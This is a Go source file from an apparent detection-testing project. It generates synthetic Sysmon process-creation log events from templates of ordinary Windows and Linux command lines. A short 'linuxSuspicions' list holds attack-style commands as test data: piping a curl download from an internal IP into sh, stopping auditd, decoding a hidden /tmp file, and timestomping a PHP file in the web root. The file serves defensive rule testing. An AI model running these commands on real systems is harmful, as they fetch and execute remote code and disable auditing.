package sigma

import (
	"fmt"
	"math/rand"
	"strings"

	"github.com/ringer-lab/ringer/emulation/sigma/logevent"
)

// habit is something machines do all day: a program, the one that starts it, and
// a command line with blanks for what varies: %d a number, %s a word, %x hex
// digits, %l a long list of paths.
type habit struct{ image, description, line, parent, parentLine string }

var windowsHabits = []habit{
	{`C:\Program Files\Google\Chrome\Application\chrome.exe`, "Google Chrome", `"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --string-annotations --video-capture-use-gpu-memory-buffer --lang=en-US --device-scale-factor=1.25 --num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id=%d --time-ticks-at-unix-epoch=-%d --launch-time-ticks=%d --metrics-shmem-handle=%d,i,%d,%d,2097152 --field-trial-handle=%d,i,%d,%d,262144 --variations-seed-version=%x --mojo-platform-channel-handle=%d /prefetch:1`, `C:\Program Files\Google\Chrome\Application\chrome.exe`, `"C:\Program Files\Google\Chrome\Application\chrome.exe" --profile-directory=Default`},
	{`C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe`, "Microsoft Edge", `"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=de --service-sandbox-type=none --field-trial-handle=%d,i,%d,%d,262144 --variations-seed-version --mojo-platform-channel-handle=%d /prefetch:3`, `C:\Windows\explorer.exe`, `C:\Windows\Explorer.EXE`},
	{`C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, "Microsoft Word", `"C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "C:\Users\%s\Documents\%s report %d.docx" /o ""`, `C:\Windows\explorer.exe`, `C:\Windows\Explorer.EXE`},
	{`C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE`, "Microsoft Excel", `"C:\Program Files\Microsoft Office\Root\Office16\EXCEL.EXE" "\\fileserver\finance\%d\%s-budget.xlsx"`, `C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`, `"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"`},
	{`C:\Program Files\WindowsApps\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\ms-teams.exe`, "Microsoft Teams", `"C:\Program Files\WindowsApps\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\ms-teams.exe" msteams:system-initiated --instance=%x`, `C:\Windows\System32\svchost.exe`, `C:\Windows\system32\svchost.exe -k DcomLaunch -p`},
	{`C:\Windows\System32\svchost.exe`, "Host Process for Windows Services", `C:\Windows\system32\svchost.exe -k netsvcs -p -s %s`, `C:\Windows\System32\services.exe`, `C:\Windows\system32\services.exe`},
	{`C:\Windows\System32\taskhostw.exe`, "Host Process for Windows Tasks", `taskhostw.exe %s`, `C:\Windows\System32\svchost.exe`, `C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`},
	{`C:\Windows\System32\conhost.exe`, "Console Window Host", `\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`, `C:\Windows\System32\cmd.exe`, `C:\Windows\system32\cmd.exe /c ""D:\jobs\%s.bat" "`},
	{`C:\Windows\System32\backgroundTaskHost.exe`, "Background Task Host", `"C:\Windows\system32\backgroundTaskHost.exe" -ServerName:App.AppX%x.mca`, `C:\Windows\System32\svchost.exe`, `C:\Windows\system32\svchost.exe -k DcomLaunch -p`},
	{`C:\Windows\System32\wbem\WmiPrvSE.exe`, "WMI Provider Host", `C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`, `C:\Windows\System32\svchost.exe`, `C:\Windows\system32\svchost.exe -k DcomLaunch -p`},
	{`C:\Windows\System32\dllhost.exe`, "COM Surrogate", `C:\Windows\system32\DllHost.exe /Processid:{%x-4C9F-4D6B-A6C1-%x}`, `C:\Windows\System32\svchost.exe`, `C:\Windows\system32\svchost.exe -k DcomLaunch -p`},
	{`C:\Windows\System32\SearchProtocolHost.exe`, "Microsoft Windows Search Protocol Host", `"C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe%d_ Global\UsGthrCtrlFltPipeMssGthrPipe%d 1 -2147483646 "Software\Microsoft\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)"`, `C:\Windows\System32\SearchIndexer.exe`, `C:\Windows\system32\SearchIndexer.exe /Embedding`},
	{`C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MpCmdRun.exe`, "Microsoft Malware Protection Command Line Utility", `"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MpCmdRun.exe" Scan -ScheduleJob -ScanTrigger 55 -IdleScheduledJob`, `C:\Windows\System32\svchost.exe`, `C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`},
	{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "Windows PowerShell", `powershell.exe -NoLogo -NonInteractive -File "D:\scripts\%s\Rotate-%s.ps1" -Days %d -Verbose`, `C:\Windows\System32\svchost.exe`, `C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`},
	{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "Windows PowerShell", `"powershell.exe" -Command "Get-ChildItem -Path D:\exports\%s -Filter *.csv | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-%d) } | Measure-Object -Property Length -Sum"`, `C:\Windows\CCM\CcmExec.exe`, `C:\Windows\CCM\CcmExec.exe`},
	{`C:\Windows\System32\cmd.exe`, "Windows Command Processor", `cmd.exe /d /s /c "npm run build -- --project=%s --output=dist/%d"`, `C:\Program Files\nodejs\node.exe`, `"C:\Program Files\nodejs\node.exe" "C:\Program Files\nodejs\node_modules\npm\bin\npm-cli.js" run all`},
	{`C:\Program Files\Git\cmd\git.exe`, "Git for Windows", `git -c core.quotepath=false -c log.showSignature=false status --porcelain=v2 --branch -z --untracked-files=all -- src/%s`, `C:\Users\%s\AppData\Local\Programs\Microsoft VS Code\Code.exe`, `"C:\Users\%s\AppData\Local\Programs\Microsoft VS Code\Code.exe" --type=utility`},
	{`C:\Program Files\Eclipse Adoptium\jdk-21.0.4.7-hotspot\bin\java.exe`, "OpenJDK Platform binary", `"C:\Program Files\Eclipse Adoptium\jdk-21.0.4.7-hotspot\bin\java.exe" -Xms2g -Xmx8g -XX:+UseG1GC -Dfile.encoding=UTF-8 -Dapp.home=D:\apps\%s -classpath %l com.%s.billing.Main --port %d`, `C:\Windows\System32\services.exe`, `C:\Windows\system32\services.exe`},
	{`C:\Windows\System32\msiexec.exe`, "Windows® installer", `C:\Windows\system32\msiexec.exe /V`, `C:\Windows\System32\services.exe`, `C:\Windows\system32\services.exe`},
	{`C:\Windows\System32\rundll32.exe`, "Windows host process (Rundll32)", `"C:\Windows\system32\rundll32.exe" C:\Windows\system32\PcaSvc.dll,PcaPatchSdbTask`, `C:\Windows\System32\svchost.exe`, `C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`},
	{`C:\Windows\System32\net.exe`, "Net Command", `net use Z: \\fileserver\%s /persistent:no`, `C:\Windows\System32\cmd.exe`, `C:\Windows\system32\cmd.exe /c \\dc01\netlogon\logon.bat`},
	{`C:\Program Files\Microsoft SQL Server\MSSQL16.MSSQLSERVER\MSSQL\Binn\sqlservr.exe`, "SQL Server Windows NT - 64 Bit", `"C:\Program Files\Microsoft SQL Server\MSSQL16.MSSQLSERVER\MSSQL\Binn\sqlservr.exe" -sMSSQLSERVER`, `C:\Windows\System32\services.exe`, `C:\Windows\system32\services.exe`},
	{`C:\Windows\System32\inetsrv\w3wp.exe`, "IIS Worker Process", `c:\windows\system32\inetsrv\w3wp.exe -ap "%s" -v "v4.0" -l "webengine4.dll" -a \\.\pipe\iisipm%x -h "C:\inetpub\temp\apppools\%s\%s.config" -w "" -m 0 -t 20 -ta 0`, `C:\Windows\System32\svchost.exe`, `C:\Windows\system32\svchost.exe -k iissvcs`},
	{`C:\Windows\System32\schtasks.exe`, "Task Scheduler Configuration Tool", `schtasks /query /tn "\Backup\%s" /fo LIST /v`, `C:\Program Files\BackupAgent\agent.exe`, `"C:\Program Files\BackupAgent\agent.exe" --service`},
}

var linuxHabits = []habit{
	{"/usr/sbin/sshd", "", "sshd: %s [priv]", "/usr/sbin/sshd", "/usr/sbin/sshd -D"},
	{"/usr/bin/bash", "", "-bash", "/usr/sbin/sshd", "sshd: %s@pts/%d"},
	{"/usr/bin/dash", "", "/bin/sh -c cd / && run-parts --report /etc/cron.hourly", "/usr/sbin/cron", "/usr/sbin/CRON -f"},
	{"/usr/bin/run-parts", "", "run-parts --report /etc/cron.hourly", "/usr/bin/dash", "/bin/sh -c cd / && run-parts --report /etc/cron.hourly"},
	{"/usr/bin/python3.11", "", "/opt/%s/venv/bin/python3 manage.py process_tasks --queue=%s --workers=%d", "/usr/lib/systemd/systemd", "/sbin/init"},
	{"/usr/bin/node", "", "node --max-old-space-size=%d /srv/%s/dist/server.js", "/usr/bin/npm", "npm start"},
	{"/usr/sbin/nginx", "", "nginx: worker process", "/usr/sbin/nginx", "nginx: master process /usr/sbin/nginx -g daemon on; master_process on;"},
	{"/usr/bin/containerd-shim-runc-v2", "", "/usr/bin/containerd-shim-runc-v2 -namespace moby -id %x%x%x -address /run/containerd/containerd.sock", "/usr/bin/containerd", "/usr/bin/containerd"},
	{"/usr/bin/runc", "", "runc --root /var/run/docker/runtime-runc/moby --log /run/containerd/io.containerd.runtime.v2.task/moby/%x/log.json --log-format json exec --process /tmp/runc-process%d --detach --pid-file /run/containerd/%x.pid %x", "/usr/bin/containerd-shim-runc-v2", "/usr/bin/containerd-shim-runc-v2 -namespace moby -id %x -address /run/containerd/containerd.sock"},
	{"/usr/bin/curl", "", "curl -fsS --max-time 5 http://127.0.0.1:%d/healthz", "/usr/bin/dash", "/bin/sh -c curl -fsS --max-time 5 http://127.0.0.1:8080/healthz || exit 1"},
	{"/usr/bin/apt-get", "", "apt-get -qq -y update", "/usr/bin/dash", "/bin/sh /usr/lib/apt/apt.systemd.daily update"},
	{"/usr/bin/dpkg", "", "/usr/bin/dpkg --print-foreign-architectures", "/usr/bin/apt-get", "apt-get -qq -y update"},
	{"/usr/bin/grep", "", "grep -c %s /var/log/%s/access.log", "/usr/bin/bash", "/bin/bash /opt/%s/bin/report.sh"},
	{"/usr/bin/gawk", "", "awk {print $%d} /proc/loadavg", "/usr/bin/bash", "/bin/bash /usr/local/bin/metrics"},
	{"/usr/bin/ps", "", "ps -eo pid,ppid,rss,args --sort=-rss", "/usr/bin/bash", "/bin/bash /usr/local/bin/metrics"},
	{"/usr/bin/rsync", "", "rsync -a --delete --exclude=.cache /srv/%s/ backup@vault.%s.lan:/backups/%d/", "/usr/bin/dash", "/bin/sh -c /etc/cron.daily/backup"},
	{"/usr/lib/postgresql/15/bin/postgres", "", "postgres: 15/main: %s %s 10.0.%d.%d(%d) SELECT", "/usr/lib/postgresql/15/bin/postgres", "/usr/lib/postgresql/15/bin/postgres -D /var/lib/postgresql/15/main -c config_file=/etc/postgresql/15/main/postgresql.conf"},
	{"/usr/bin/java", "", "/usr/bin/java -Xmx4g -Dlog4j.configurationFile=/etc/%s/log4j2.xml -cp /opt/%s/lib/* com.%s.Main --config /etc/%s/app.yaml", "/usr/lib/systemd/systemd", "/sbin/init"},
	{"/usr/bin/git", "", "git -C /srv/%s fetch --prune --quiet origin", "/usr/bin/dash", "/bin/sh -c git -C /srv/site fetch --prune --quiet origin"},
	{"/usr/bin/logrotate", "", "/usr/sbin/logrotate /etc/logrotate.conf", "/usr/lib/systemd/systemd", "/sbin/init"},
}

// suspicions are for the Linux rules, as there are no recordings for them.
var linuxSuspicions = []habit{
	{"/usr/bin/base64", "", "base64 -d /tmp/.%s", "/usr/bin/bash", "bash -i"},
	{"/usr/bin/whoami", "", "whoami", "/usr/sbin/apache2", "/usr/sbin/apache2 -k start"},
	{"/usr/bin/crontab", "", "crontab -l", "/usr/bin/bash", "bash"},
	{"/usr/bin/chmod", "", "chmod +x /tmp/%s", "/usr/bin/bash", "bash -c curl -s http://10.0.0.%d/x | sh"},
	{"/usr/bin/systemctl", "", "systemctl stop auditd", "/usr/bin/sudo", "sudo systemctl stop auditd"},
	{"/usr/bin/touch", "", "touch -t 202001010000 /var/www/html/%s.php", "/usr/bin/dash", "sh -c touch"},
}

var benignWords = strings.Fields("accounting billing catalog delivery export finance gateway house import journal kiosk ledger market north order payroll quality retail sales travel user vendor web yard zone")

type maker struct{ *rand.Rand }

func (m maker) word() string { return benignWords[m.Intn(len(benignWords))] }

func (m maker) hex(n int) string { return fmt.Sprintf("%0*X", n, m.Int63()&(1<<(4*min(n, 15))-1)) }

func (m maker) fillTemplate(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] != '%' || i+1 == len(s) {
			b.WriteByte(s[i])
			continue
		}
		i++
		switch s[i] {
		case 'd':
			fmt.Fprint(&b, m.Intn(60000))
		case 's':
			b.WriteString(m.word())
		case 'x':
			b.WriteString(m.hex(12))
		case 'l':
			for range 25 {
				fmt.Fprintf(&b, `D:\apps\%s\lib\%s-%s-%d.%d.jar;`, m.word(), m.word(), m.word(), m.Intn(9), m.Intn(20))
			}
		}
	}
	return b.String()
}

// windows is a process creation as Sysmon reports it.
func (m maker) windows(h habit) *logevent.Event {
	image := m.fillTemplate(h.image)
	base := image[strings.LastIndexByte(image, '\\')+1:]
	fields := map[string]any{
		"RuleName": "-", "UtcTime": "2025-06-03 08:15:11.204", "ProcessGuid": "{" + m.hex(8) + "-7F2B-683E-" + m.hex(12) + "}", "ProcessId": m.Intn(20000),
		"Image": image, "FileVersion": "10.0.26100.1", "Description": h.description, "Product": "Microsoft® Windows® Operating System", "Company": "Microsoft Corporation",
		"OriginalFileName": base, "CommandLine": m.fillTemplate(h.line), "CurrentDirectory": `C:\Windows\system32\`, "User": `CORP\` + m.word(),
		"LogonGuid": "{" + m.hex(8) + "-0000-0000-0000-000000000000}", "LogonId": "0x" + m.hex(6), "TerminalSessionId": 1, "IntegrityLevel": "Medium",
		"Hashes":            "SHA1=" + m.hex(15) + m.hex(15) + m.hex(10) + ",MD5=" + m.hex(15) + m.hex(15) + "00,SHA256=" + m.hex(15) + m.hex(15) + m.hex(15) + m.hex(15) + "0000,IMPHASH=" + m.hex(15) + m.hex(15) + "00",
		"ParentProcessGuid": "{" + m.hex(8) + "-7F2B-683E-" + m.hex(12) + "}", "ParentProcessId": m.Intn(20000), "ParentImage": m.fillTemplate(h.parent), "ParentCommandLine": m.fillTemplate(h.parentLine), "ParentUser": `NT AUTHORITY\SYSTEM`,
		"Provider_Name": "Microsoft-Windows-Sysmon", "EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "pc" + m.word() + ".corp.example",
	}
	return &logevent.Event{LogSources: logevent.WindowsLogSources("Microsoft-Windows-Sysmon/Operational", 1), Fields: fields}
}

// linux is a process creation as Sysmon for Linux reports it.
func (m maker) linux(h habit) *logevent.Event {
	return &logevent.Event{LogSources: []logevent.LogSource{{Category: "process_creation", Product: "linux"}}, Fields: map[string]any{
		"UtcTime": "2025-06-03 08:15:11.204", "ProcessId": m.Intn(20000), "Image": m.fillTemplate(h.image), "CommandLine": m.fillTemplate(h.line), "CurrentDirectory": "/srv/" + m.word(),
		"User": m.word(), "LogonId": m.Intn(2000), "ParentProcessId": m.Intn(20000), "ParentImage": m.fillTemplate(h.parent), "ParentCommandLine": m.fillTemplate(h.parentLine),
	}}
}
